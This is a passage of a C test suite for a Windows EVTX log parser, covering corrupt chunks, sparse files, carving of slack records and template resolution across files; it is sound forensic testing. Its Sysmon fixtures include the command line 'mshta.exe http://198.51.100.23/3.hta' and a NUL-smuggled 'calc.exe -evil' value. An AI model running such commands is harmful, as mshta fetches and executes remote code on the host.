		    st.bad_chunks == cases[i].bad_chunks &&
		    st.truncated == (m != NULL), "%s: records %llu missing "
		    "%u bad chunks %u truncated %d", m ? m : "none",
		    (unsigned long long)st.records, st.missing_chunks,
		    st.bad_chunks, st.truncated);
		ck_assert_uint_eq(s.warnings > 0, m != NULL);
		evtx_stats_release(&st);
	}
}
END_TEST

/*
 * corrupt_0006_free_space_cut (2026-12, issue 15 reproducer 4: chunk 0's
 * free-space offset set to 0x200 with both CRCs fixed hid its 14 records,
 * neither read nor carved): the records the chunk header lists past the
 * free space are carved as recovered and counted; also with the offset
 * set to the 6th record (9 cut), and to inside it (the record across the
 * free space is carved too).
 */
START_TEST(corrupt_0006_free_space_cut)
{
	char m[64];
	uint32_t sixth;
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(build_mutant("free-space 0 512"), true,
	    &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.records, 26);
	ck_assert_uint_eq(st.recovered, 14);
	ck_assert_uint_eq(st.cut_records, 14);
	ck_assert_uint_eq(st.bad_chunks, 0);
	ck_assert_uint_eq(st.id_breaks, 0);
	ck_assert_uint_eq(s.recovered_delivered, 14);
	ck_assert_uint_eq(s.warnings, 1);
	evtx_stats_release(&st);

	sixth = rec_off(build_mutant(NULL), 5);
	unlink(tmp_path);
	for (int inside = 0; inside < 2; inside++) {
		snprintf(m, sizeof(m), "free-space 0 %u", sixth + inside * 100);
		ck_assert_int_eq(read_file(build_mutant(m), true, &st, &s), 0);
		unlink(tmp_path);
		ck_assert_uint_eq(st.records, 40 - 9);
		ck_assert_uint_eq(st.recovered, 9);
		ck_assert_uint_eq(st.cut_records, 9);
		ck_assert_uint_eq(st.bad_records, (unsigned)inside);
		evtx_stats_release(&st);
	}
	/* without the recovered option they are counted, not delivered */
	ck_assert_int_eq(read_file(build_mutant("free-space 0 512"), false,
	    &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.cut_records, 14);
	ck_assert_uint_eq(s.recovered_delivered, 0);
	evtx_stats_release(&st);
}
END_TEST

/*
 * corrupt_0007_unlinked_record (2026-12, issue 15: record-id sequences
 * broken inside a chunk): a record hidden inside the one before it, CRCs
 * fixed, is a break in the chunk's id sequence; the last record of a
 * chunk hidden so is a record the chunk header lists but that is missing.
 */
START_TEST(corrupt_0007_unlinked_record)
{
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(build_mutant("unlink-record 5"), true,
	    &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.records, 39);
	ck_assert_uint_eq(st.id_breaks, 1);
	ck_assert_uint_eq(st.bad_chunks, 0);
	ck_assert_uint_eq(s.warnings, 1);
	evtx_stats_release(&st);
	ck_assert_int_eq(read_file(build_mutant("unlink-record 13"), true,
	    &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.records, 39);
	ck_assert_uint_eq(st.id_breaks, 1);
	ck_assert_uint_eq(st.cut_records, 0);
	evtx_stats_release(&st);
	/* ids that step back (interleaved sources): no break counted */
	ck_assert_int_eq(read_file(td("wec/ForwardedEvents.evtx"), true, &st,
	    &s), 0);
	ck_assert_uint_eq(st.id_breaks, 0);
	evtx_stats_release(&st);
}
END_TEST

/*
 * corrupt_0008_zero_chunk (2026-12, issue 15: chunks announced but
 * absent): chunk 1 of 3 zero-filled is one missing chunk, one warning.
 */
START_TEST(corrupt_0008_zero_chunk)
{
	size_t len;
	uint8_t *b;
	struct evtx_stats st;
	struct seen s;

	b = slurp(build_mutant(NULL), &len);
	unlink(tmp_path);
	memset(b + 4096 + 65536, 0, 65536);
	ck_assert_int_eq(read_file(spill(b, len), true, &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.records, 24);
	ck_assert_uint_eq(st.missing_chunks, 1);
	ck_assert(!st.truncated);
	ck_assert_uint_eq(s.warnings, 1);
	evtx_stats_release(&st);
	free(b);
}
END_TEST

/*
 * corrupt_0009_sparse_file (2026-12, issue 15 reproducer 15: a 16 GiB
 * sparse file holding a 200 KB log was read byte by byte, 35 s): holes
 * are skipped with SEEK_DATA/SEEK_HOLE, so a few chunks are read.  Holes
 * past the header's chunk count are no damage; holes inside it are
 * missing chunks, warned about once per run.  Skipped where the file
 * system makes no holes, and under valgrind (EVH_TEST_QUICK).
 */
START_TEST(corrupt_0009_sparse_file)
{
	const uint64_t big = 16ULL << 30;
	size_t len;
	uint8_t *b;
	int fd;
	struct evtx_stats st;
	struct seen s;

	if (getenv("EVH_TEST_QUICK") != NULL)
		return;
	b = slurp(build_mutant(NULL), &len);
	if ((fd = open(tmp_path, O_WRONLY)) == -1 ||
	    ftruncate(fd, (off_t)big) == -1 ||
	    lseek(fd, 0, SEEK_HOLE) >= (off_t)big) {
		printf("corrupt_0009_sparse_file: skipped: no sparse files "
		    "here (%s)\n", strerror(errno));
		if (fd != -1)
			close(fd);
		unlink(tmp_path);
		free(b);
		return;
	}
	close(fd);
	ck_assert_int_eq(read_file(tmp_path, true, &st, &s), 0);
	ck_assert_uint_eq(st.records, 40);
	ck_assert_uint_eq(st.missing_chunks, 0);
	ck_assert_uint_eq(s.warnings, 0);
	/* 3 chunks read, the rest (over 262,000 slots) skipped unread */
	ck_assert_uint_le(st.bytes_read, 3 * 65536);
	ck_assert_uint_eq(st.sparse_slots, (big - 4096 + 65535) / 65536 - 3);
	evtx_stats_release(&st);
	unlink(tmp_path);

	/* chunk 1 punched out of the announced 3: a hole, a missing chunk */
	memset(b + 4096 + 65536, 0, 65536);
	spill(b, 4096 + 65536);
	ck_assert((fd = open(tmp_path, O_WRONLY)) != -1);
	ck_assert_int_eq(pwrite(fd, b + 4096 + 2 * 65536, 65536,
	    4096 + 2 * 65536), 65536);
	close(fd);
	ck_assert_int_eq(read_file(tmp_path, true, &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.records, 24);
	ck_assert_uint_eq(st.missing_chunks, 1);
	ck_assert_uint_eq(s.warnings, 1);
	ck_assert_uint_le(st.bytes_read, 2 * 65536);
	evtx_stats_release(&st);
	free(b);
}
END_TEST

/* The value of Data name in what on_nul() saw, "" when absent. */
static char nul_cmd[256], nul_img[256];

static int
on_nul(const struct ev_record *rec, void *ctx)
{
	(void)ctx;
	for (uint32_t i = 0; i < rec->ndata; i++) {
		if (strcmp(rec->data[i].name, "CommandLine") == 0)
			snprintf(nul_cmd, sizeof(nul_cmd), "%s",
			    rec->data[i].value);
		if (strcmp(rec->data[i].name, "Image") == 0)
			snprintf(nul_img, sizeof(nul_img), "%s",
			    rec->data[i].value);
	}
	return 0;
}

/*
 * corrupt_0010_nul_in_value (2026-12, issue 15 reproducer 12: a NUL
 * inside a value cut it silently, in every output and in what rules
 * see): the NUL is shown as U+2400 and the rest kept; NULs at the end
 * (terminator, padding) are dropped as before; values with one are
 * counted per file.
 */
START_TEST(corrupt_0010_nul_in_value)
{
	static const char cmd[] = "calc.exe\0 -evil\0\0";	/* 18 units */
	uint16_t u_cmd[sizeof(cmd) - 1], u_img[12];
	struct evtxw_data d[2];
	struct evtxw_event ev;
	struct evtxw_opts o = EVTXW_OPTS_INIT;
	struct ev_err err = EV_ERR_INIT;
	struct evtxw *w = evtxw_new(&o);
	struct evtx_open_opts oo = { EVTX_PARSER_NATIVE, true, NULL, 0 };
	struct evtx_sink sink = { on_nul, NULL, NULL };
	struct evtxw_spec *sp;
	struct evtx_stats st;
	struct evtx_file *f;
	const uint8_t *b;
	size_t len;

	for (size_t i = 0; i < NELEM(u_cmd); i++)
		u_cmd[i] = (uint8_t)cmd[i];
	for (size_t i = 0; i < NELEM(u_img); i++)
		u_img[i] = i < 8 ? (uint16_t)"calc.exe"[i] : 0;
	memset(d, 0, sizeof(d));
	d[0].name = "Image";
	d[0].type = EVTXW_T_STRING;
	d[0].u16 = u_img;		/* only NULs after the text */
	d[0].u16len = NELEM(u_img);
	d[1].name = "CommandLine";
	d[1].type = EVTXW_T_STRING;
	d[1].u16 = u_cmd;
	d[1].u16len = NELEM(u_cmd);
	/* the System fields of wks01-sysmon's first event */
	ck_assert_int_eq(evtxw_spec_load(td("spec/wks01-sysmon.spec"), &sp,
	    &err), 0);
	ev = *evtxw_spec_event(sp, 0);
	ev.data = d;
	ev.ndata = NELEM(d);
	ck_assert_ptr_nonnull(w);
	ck_assert_int_eq(evtxw_add(w, &ev, &err), 0);
	ck_assert_int_eq(evtxw_finish(w, &err), 0);
	b = evtxw_bytes(w, &len);
	spill(b, len);
	evtxw_free(w);
	evtxw_spec_free(sp);

	evtx_stats_init(&st);
	ck_assert_int_eq(evtx_file_open(tmp_path, &oo, &f, &st, NULL), 0);
	ck_assert_int_eq(evtx_file_read(f, 0, evtx_file_units(f), &sink, &st,
	    NULL), 0);
	evtx_file_close(f);
	unlink(tmp_path);
	ck_assert_uint_eq(st.events, 1);
	ck_assert_str_eq(nul_cmd, "calc.exe\xe2\x90\x80 -evil");
	ck_assert_str_eq(nul_img, "calc.exe");
	ck_assert_uint_eq(st.nul_values, 1);
	evtx_stats_release(&st);
}
END_TEST

/* ---- recovered ---- */

START_TEST(recovered_slack)
{
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(td("bad/slack-record.evtx"), false, &st,
	    &s), 0);
	ck_assert_uint_eq(st.recovered, 1);
	ck_assert_uint_eq(s.recovered_delivered, 0);
	evtx_stats_release(&st);
	ck_assert_int_eq(read_file(td("bad/slack-record.evtx"), true, &st,
	    &s), 0);
	ck_assert_uint_eq(st.recovered, 1);
	ck_assert_uint_eq(s.recovered_delivered, 1);
	evtx_stats_release(&st);
}
END_TEST

START_TEST(recovered_hidden_chunk)
{
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(td("bad/hidden-chunk.evtx"), true, &st,
	    &s), 0);
	ck_assert_uint_eq(st.records, 4);
	ck_assert_uint_eq(st.recovered, 2);
	ck_assert_uint_eq(s.recovered_delivered, 2);
	evtx_stats_release(&st);
}
END_TEST

/*
 * A copy of an allocated record placed in the chunk's slack is the same
 * record id and time: it is dropped, not counted as recovered.
 */
START_TEST(recovered_dedup)
{
	size_t len;
	uint8_t *b = slurp(td("wks01-sysmon.evtx"), &len);
	uint8_t *c = b + 4096;
	uint32_t freeoff = le32(c + 48), size = le32(c + 512 + 4);
	struct evtx_stats st;
	struct seen s;

	ck_assert_uint_le(freeoff + size, 65536);
	memcpy(c + freeoff, c + 512, size);
	ck_assert_int_eq(read_file(spill(b, len), true, &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.records, 40);
	ck_assert_uint_eq(st.recovered, 0);
	evtx_stats_release(&st);
	/* with another time it is a recovered record */
	c[freeoff + 16] ^= 1;
	ck_assert_int_eq(read_file(spill(b, len), true, &st, &s), 0);
	unlink(tmp_path);
	ck_assert_uint_eq(st.recovered, 1);
	evtx_stats_release(&st);
	free(b);
}
END_TEST


/* ---- templates: verified before use, found by identifier ---- */

/* Sysmon 1 fields (a shape) and Sysmon 3 fields (another shape). */
static const struct evtxw_data tpl_proc[] = {
	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:30.000", NULL, 0 },
	{ "ProcessGuid", EVTXW_T_GUID, 0,
	    "{A1B2C3D4-0054-DEAE-0000-0000127A1FA8}", NULL, 0 },
	{ "ProcessId", EVTXW_T_UINT32, 0, "9512", NULL, 0 },
	{ "Image", EVTXW_T_STRING, 0, "C:\\Windows\\System32\\mshta.exe",
	    NULL, 0 },
	{ "CommandLine", EVTXW_T_STRING, 0,
	    "mshta.exe http://198.51.100.23/3.hta", NULL, 0 },
};
static const struct evtxw_data tpl_proc2[] = {
	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:20.000", NULL, 0 },
	{ "ProcessGuid", EVTXW_T_GUID, 0,
	    "{A1B2C3D4-0054-DEA4-0000-00001279DB64}", NULL, 0 },
	{ "ProcessId", EVTXW_T_UINT32, 0, "9508", NULL, 0 },
	{ "Image", EVTXW_T_STRING, 0, "C:\\Windows\\System32\\cmd.exe",
	    NULL, 0 },
	{ "CommandLine", EVTXW_T_STRING, 0, "cmd.exe /c echo 1", NULL, 0 },
};
static const struct evtxw_data tpl_net[] = {
	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:10.000", NULL, 0 },
	{ "ProcessId", EVTXW_T_UINT32, 0, "9504", NULL, 0 },
	{ "Image", EVTXW_T_STRING, 0, "C:\\Windows\\System32\\cmd.exe",
	    NULL, 0 },
	{ "Protocol", EVTXW_T_STRING, 0, "tcp", NULL, 0 },
};

static void
tpl_event(struct evtxw_event *ev, uint16_t eid, uint64_t recid,
    const struct evtxw_data *d, size_t n, unsigned flags)
{
	memset(ev, 0, sizeof(*ev));
	ev->provider = EV_PROVIDER_SYSMON;
	ev->event_id = eid;
	ev->qualifiers = -1;
	ev->version = 5;
	ev->level = 4;
	ev->time = 133541604000000000ULL + recid * 10000000ULL;
	ev->record_id = recid;
	ev->pid = 2812;
	ev->tid = 3656;
	ev->channel = "Microsoft-Windows-Sysmon/Operational";
	ev->computer = "WKS01.corp.local";
	ev->user_sid = "S-1-5-18";
	ev->body = EVTXW_BODY_EVENTDATA;
	ev->data = d;
	ev->ndata = n;
	ev->flags = flags;
}

/* The recovered record of a file: its pairs as "name=value;" text. */
struct tpl_seen {
	char		 pairs[1024];
	int		 recovered;
	bool		 unresolved;
};

static int
tpl_on_rec(const struct ev_record *rec, void *ctx)
{
	struct tpl_seen *s = ctx;
	size_t k = 0;

	if (!rec->recovered)
		return 0;
	s->recovered++;
	s->unresolved = rec->unresolved;
	for (uint32_t i = 0; i < rec->ndata && k < sizeof(s->pairs); i++)
		k += (size_t)snprintf(s->pairs + k, sizeof(s->pairs) - k,
		    "%s=%s;", rec->data[i].name, rec->data[i].value);
	return 0;
}

/*
 * Writes one chunk: the allocated records (first n of evs) then a slack
 * Sysmon 1 whose EventData instance points at the System template, and
 * reads it back; *st gets the file's counters.
 */
static void
tpl_read(const struct evtxw_event *evs, size_t n, struct tpl_seen *s,
    struct evtx_stats *st)
{
	struct evtxw_opts wo = EVTXW_OPTS_INIT;
	struct evtxw *w = evtxw_new(&wo);
	struct ev_err err = EV_ERR_INIT;
	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, true, NULL, 0 };
	struct evtx_sink sink = { tpl_on_rec, NULL, s };
	struct evtxw_event slack;
	struct evtx_file *f;
	const uint8_t *b;
	size_t len;

	ck_assert_ptr_nonnull(w);
	for (size_t i = 0; i < n; i++)
		ck_assert_int_eq(evtxw_add(w, &evs[i], &err), 0);
	tpl_event(&slack, 1, 7004, tpl_proc, NELEM(tpl_proc),
	    EVTXW_EV_SLACK | EVTXW_EV_STALE_TPL);
	ck_assert_int_eq(evtxw_add(w, &slack, &err), 0);
	ck_assert_int_eq(evtxw_finish(w, &err), 0);
	b = evtxw_bytes(w, &len);
	memset(s, 0, sizeof(*s));
	evtx_stats_init(st);
	ck_assert_int_eq(evtx_file_open(spill(b, len), &o, &f, st, &err), 0);
	ck_assert_int_eq(evtx_file_read(f, 0, evtx_file_units(f), &sink, st,
	    &err), 0);
	evtx_file_close(f);
	unlink(tmp_path);
	evtxw_free(w);
}

/* The slack Sysmon 1's values by position (template: unresolved). */
#define POSITIONAL_PAIRS "#1=-;#2=2024-03-05 09:00:30.000;" \
	"#3={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};#4=9512;" \
	"#5=C:\\Windows\\System32\\mshta.exe;" \
	"#6=mshta.exe http://198.51.100.23/3.hta;"

/*
 * The definition at the instance's offset is another template (another
 * identifier) and the chunk holds none with its identifier: the values
 * are delivered by position, never under the other template's names.
 */
START_TEST(template_verify_reject)
{
	struct evtxw_event ev;
	struct evtx_stats st;
	struct tpl_seen s;

	tpl_event(&ev, 3, 7001, tpl_net, NELEM(tpl_net), 0);
	tpl_read(&ev, 1, &s, &st);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(s.unresolved);
	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
	ck_assert_uint_eq(st.unresolved, 1);
	evtx_stats_release(&st);
}
END_TEST

/*
 * The same template is defined elsewhere in the chunk (by an allocated
 * record of the same shape): found by its identifier, values named.
 */
START_TEST(template_guid_in_chunk)
{
	struct evtxw_event ev[2];
	struct evtx_stats st;
	struct tpl_seen s;

	tpl_event(&ev[0], 1, 7001, tpl_proc2, NELEM(tpl_proc2), 0);
	tpl_event(&ev[1], 3, 7002, tpl_net, NELEM(tpl_net), 0);
	tpl_read(ev, 2, &s, &st);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, "RuleName=-;UtcTime=2024-03-05 "
	    "09:00:30.000;ProcessGuid={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};"
	    "ProcessId=9512;Image=C:\\Windows\\System32\\mshta.exe;"
	    "CommandLine=mshta.exe http://198.51.100.23/3.hta;");
	ck_assert_uint_eq(st.unresolved, 0);
	evtx_stats_release(&st);
}
END_TEST

/*
 * A definition with the instance's identifier whose substitutions do
 * not fit the values (a forged or colliding one: ProcessId declared a
 * string) is not used.
 */
START_TEST(template_tokens_misfit)
{
	static const struct evtxw_data forged[] = {
		{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
		{ "UtcTime", EVTXW_T_STRING, 0, "x", NULL, 0 },
		{ "ProcessGuid", EVTXW_T_GUID, 0,
		    "{A1B2C3D4-0054-DEAE-0000-0000127A1FA8}", NULL, 0 },
		{ "ProcessId", EVTXW_T_STRING, 0, "9512", NULL, 0 },
		{ "Image", EVTXW_T_STRING, 0, "y", NULL, 0 },
		{ "CommandLine", EVTXW_T_STRING, 0, "z", NULL, 0 },
	};
	struct evtxw_event ev;
	struct evtx_stats st;
	struct tpl_seen s;

	/* same names, other declared types: another key, another GUID;
	   the instance's identifier then names no definition that fits */
	tpl_event(&ev, 1, 7001, forged, NELEM(forged), 0);
	tpl_read(&ev, 1, &s, &st);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(s.unresolved);
	ck_assert_ptr_null(strstr(s.pairs, "Image="));
	evtx_stats_release(&st);
}
END_TEST

/* ---- templates found in other chunks and files (evtx_tpls) ---- */

/* Sysmon 1 fields of tpl_proc's types under other names (Image and
   CommandLine swapped): with the same template key, a forged template
   whose substitutions fit tpl_proc's values. */
static const struct evtxw_data tpl_forged[] = {
	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:25.000", NULL, 0 },
	{ "ProcessGuid", EVTXW_T_GUID, 0,
	    "{A1B2C3D4-0054-DEA9-0000-00001279DB70}", NULL, 0 },
	{ "ProcessId", EVTXW_T_UINT32, 0, "9510", NULL, 0 },
	{ "CommandLine", EVTXW_T_STRING, 0, "x", NULL, 0 },
	{ "Image", EVTXW_T_STRING, 0, "y", NULL, 0 },
};
/* The same key again, ProcessId a string: does not fit tpl_proc. */
static const struct evtxw_data tpl_misfit[] = {
	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:26.000", NULL, 0 },
	{ "ProcessGuid", EVTXW_T_GUID, 0,
	    "{A1B2C3D4-0054-DEA9-0000-00001279DB71}", NULL, 0 },
	{ "ImageName", EVTXW_T_STRING, 0, "9511", NULL, 0 },
	{ "Image", EVTXW_T_STRING, 0, "y", NULL, 0 },
	{ "CommandLine", EVTXW_T_STRING, 0, "z", NULL, 0 },
};

#define NAMED_PAIRS "RuleName=-;UtcTime=2024-03-05 09:00:30.000;" \
	"ProcessGuid={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};ProcessId=9512;" \
	"Image=C:\\Windows\\System32\\mshta.exe;" \
	"CommandLine=mshta.exe http://198.51.100.23/3.hta;"
#define FORGED_PAIRS "RuleName=-;UtcTime=2024-03-05 09:00:30.000;" \
	"ProcessGuid={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};ProcessId=9512;" \
	"CommandLine=C:\\Windows\\System32\\mshta.exe;" \
	"Image=mshta.exe http://198.51.100.23/3.hta;"

/* One event of a late_read() file: a shape, chunk and slack flags. */
struct late_ev {
	char		 what;		/* 'p' tpl_proc2, 'f' tpl_forged,
					   'm' tpl_misfit, 'n' tpl_net,
					   'o' tpl_proc2 of another
					   provider, 'S' tpl_proc2 in
					   slack (its definition only
					   there), 's' the slack
					   Sysmon 1 */
	bool		 newchunk;
};

static int
late_on_rec(uint32_t file, const struct ev_record *rec, uint32_t nuls,
    void *ctx)
{
	(void)file;
	(void)nuls;
	return tpl_on_rec(rec, ctx);
}

/* late_read(): file late_clobber - 1 is emptied before the look-up. */
static size_t late_clobber;

/*
 * Writes files (file i holds the events of spec[i], a string of
 * late_ev), numbered in array order, all templates of Sysmon 1 shapes
 * keyed "k" when key; reads them with one registry (none without
 * registry) in the order order[] gives, each by one-chunk ranges last
 * first when backwards; names the kept records.  s: the recovered one.
 */
static void
late_read(const struct late_ev *const *spec, const size_t *nspec, size_t nf,
    const size_t *order, bool backwards, bool registry, bool key,
    struct tpl_seen *s)
{
	struct evtx_tpls *t = registry ? evtx_tpls_new() : NULL;
	struct ev_err err = EV_ERR_INIT;
	struct evtx_sink sink = { tpl_on_rec, NULL, s };
	char paths[4][64];
	uint64_t recid = 1;

	ck_assert(nf <= 4);
	ck_assert(!registry || t != NULL);
	for (size_t i = 0; i < nf; i++) {
		struct evtxw_opts wo = EVTXW_OPTS_INIT;
		struct evtxw *w = evtxw_new(&wo);
		const uint8_t *b;
		size_t len;

		ck_assert_ptr_nonnull(w);
		for (size_t k = 0; k < nspec[i]; k++) {
			const struct late_ev *e = &spec[i][k];
			struct evtxw_event ev;
			unsigned fl = e->newchunk ? EVTXW_EV_NEWCHUNK : 0;

			switch (e->what) {
			case 'p':
				tpl_event(&ev, 1, recid, tpl_proc2,
				    NELEM(tpl_proc2), fl);
				break;
			case 'f':
				tpl_event(&ev, 1, recid, tpl_forged,
				    NELEM(tpl_forged), fl);
				break;
			case 'm':
				tpl_event(&ev, 1, recid, tpl_misfit,
				    NELEM(tpl_misfit), fl);
				break;
			case 'n':
				tpl_event(&ev, 3, recid, tpl_net,
				    NELEM(tpl_net), fl);
				break;
			case 'S':
				tpl_event(&ev, 1, recid, tpl_proc2,
				    NELEM(tpl_proc2), fl | EVTXW_EV_SLACK);
				break;
			case 'o':
				tpl_event(&ev, 1, recid, tpl_proc2,
				    NELEM(tpl_proc2), fl);
				ev.provider = "Contoso-Audit";
				ev.channel = "Contoso-Audit/Operational";
				break;
			default:
				tpl_event(&ev, 1, recid, tpl_proc,
				    NELEM(tpl_proc), fl | EVTXW_EV_SLACK |
				    EVTXW_EV_STALE_TPL);
				break;
			}
			if (key && e->what != 'n')
				ev.tpl_key = "k";
			recid++;
			ck_assert_int_eq(evtxw_add(w, &ev, &err), 0);
		}
		ck_assert_int_eq(evtxw_finish(w, &err), 0);
		b = evtxw_bytes(w, &len);
		snprintf(paths[i], sizeof(paths[i]), "%s", spill(b, len));
		evtxw_free(w);
	}
	memset(s, 0, sizeof(*s));
	for (size_t k = 0; k < nf; k++) {
		size_t i = order != NULL ? order[k] : k;
		struct evtx_open_opts o = { EVTX_PARSER_NATIVE, true, t,
		    (uint32_t)i };
		struct evtx_stats st;
		struct evtx_file *f;
		uint32_t units;

		evtx_stats_init(&st);
		ck_assert_int_eq(evtx_file_open(paths[i], &o, &f, &st, &err),
		    0);
		units = evtx_file_units(f);
		if (backwards)
			for (uint32_t u = units; u-- > 0;)
				ck_assert_int_eq(evtx_file_read(f, u, 1, &sink,
				    &st, &err), 0);
		else
			ck_assert_int_eq(evtx_file_read(f, 0, units, &sink,
			    &st, &err), 0);
		evtx_file_close(f);
		evtx_stats_release(&st);
	}
	if (late_clobber > 0)	/* the file changes before the look-up */
		ck_assert_int_eq(truncate(paths[late_clobber - 1], 0), 0);
	if (t != NULL)
		ck_assert_int_eq(evtx_tpls_finish(t, late_on_rec, s, &err), 0);
	evtx_tpls_free(t);
	for (size_t i = 0; i < nf; i++)
		unlink(paths[i]);
}

/*
 * The slack record's EventData definition is only in another chunk of
 * its file: named with the registry, positional without.
 */
START_TEST(template_cross_chunk)
{
	static const struct late_ev f0[] = {
		{ 'p', false }, { 'n', true }, { 's', false },
	};
	const struct late_ev *spec[] = { f0 };
	size_t n[] = { NELEM(f0) };
	struct tpl_seen s;

	late_read(spec, n, 1, NULL, false, false, false, &s);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(s.unresolved);
	late_read(spec, n, 1, NULL, false, true, false, &s);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
}
END_TEST

/*
 * Only in another file: named with the registry, the same for any
 * order of reading the files and of reading their chunks.
 */
START_TEST(template_cross_file)
{
	static const struct late_ev f0[] = { { 'p', false } };
	static const struct late_ev f1[] = { { 'n', false }, { 's', false } };
	const struct late_ev *spec[] = { f0, f1 };
	size_t n[] = { NELEM(f0), NELEM(f1) }, rev[] = { 1, 0 };
	struct tpl_seen s;

	late_read(spec, n, 2, NULL, false, false, false, &s);
	ck_assert(s.unresolved);
	late_read(spec, n, 2, NULL, false, true, false, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
	late_read(spec, n, 2, rev, true, true, false, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
}
END_TEST

/*
 * The only definition is the inline copy of an old record in another
 * chunk's slack (no template table names it): found by the look-up in
 * the run's slack, in the record's file and in another file.
 */
START_TEST(template_slack_only)
{
	static const struct late_ev f0[] = {
		{ 'n', false }, { 'S', false }, { 'n', true }, { 's', false },
	};
	static const struct late_ev g0[] = { { 'n', false }, { 'S', false } };
	static const struct late_ev g1[] = { { 'n', false }, { 's', false } };
	const struct late_ev *a[] = { f0 }, *b[] = { g0, g1 };
	size_t na[] = { NELEM(f0) }, nb[] = { 2, 2 }, rev[] = { 1, 0 };
	struct tpl_seen s;

	late_read(a, na, 1, NULL, false, true, false, &s);
	ck_assert_int_eq(s.recovered, 2);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
	late_read(b, nb, 2, rev, true, true, false, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
}
END_TEST

/*
 * A held record keeps no copy of its chunk: the chunk is read again for
 * the look-up.  When it no longer holds the record (the file changed in
 * between), the record is delivered as it was decoded, by position,
 * never dropped.
 */
START_TEST(template_late_reread)
{
	static const struct late_ev f0[] = { { 'p', false } };
	static const struct late_ev f1[] = { { 'n', false }, { 's', false } };
	const struct late_ev *spec[] = { f0, f1 };
	size_t n[] = { NELEM(f0), NELEM(f1) };
	struct tpl_seen s;

	late_clobber = 2;
	late_read(spec, n, 2, NULL, false, true, false, &s);
	late_clobber = 0;
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(s.unresolved);
	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
	late_clobber = 1;	/* the definition's file: the same */
	late_read(spec, n, 2, NULL, false, true, false, &s);
	late_clobber = 0;
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(s.unresolved);
	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
}
END_TEST

/*
 * Another file's definition is taken only from a chunk that holds a
 * record of the record's provider: one in a log of another provider is
 * passed over (positional when none other is there), also when that file
 * comes first; the same for any reading order.
 */
START_TEST(template_cross_file_provider)
{
	static const struct late_ev other[] = { { 'o', false } };
	static const struct late_ev slack[] = { { 'n', false }, { 's', false } };
	static const struct late_ev real[] = { { 'p', false } };
	const struct late_ev *a[] = { other, slack }, *b[] = { other, slack,
	    real };
	size_t na[] = { 1, 2 }, nb[] = { 1, 2, 1 }, rev[] = { 2, 1, 0 };
	struct tpl_seen s;

	late_read(a, na, 2, NULL, false, true, false, &s);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(s.unresolved);
	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
	late_read(b, nb, 3, NULL, false, true, false, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
	late_read(b, nb, 3, rev, true, true, false, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
}
END_TEST

/*
 * Two definitions claim one GUID (a forged one with Image and
 * CommandLine swapped): the nearest chunk of the same file wins, then
 * the same file over other files, then other files in file order; a
 * definition whose tokens do not fit is passed over.  The same for any
 * reading order.
 */
START_TEST(template_tie_break)
{
	static const struct late_ev near_real[] = {
		{ 'f', false }, { 'p', true }, { 'n', true }, { 's', false },
	};
	static const struct late_ev near_forged[] = {
		{ 'p', false }, { 'f', true }, { 'n', true }, { 's', false },
	};
	static const struct late_ev real[] = { { 'p', false } };
	static const struct late_ev forged[] = { { 'f', false } };
	static const struct late_ev misfit[] = { { 'm', false } };
	static const struct late_ev own_forged[] = {
		{ 'f', false }, { 'n', true }, { 's', false },
	};
	static const struct late_ev slack[] = { { 'n', false }, { 's', false } };
	const struct late_ev *a[] = { near_real }, *b[] = { near_forged };
	const struct late_ev *c[] = { real, own_forged };
	const struct late_ev *d[] = { forged, slack, real };
	const struct late_ev *e[] = { misfit, slack, real };
	size_t na[] = { NELEM(near_real) }, nb[] = { NELEM(near_forged) };
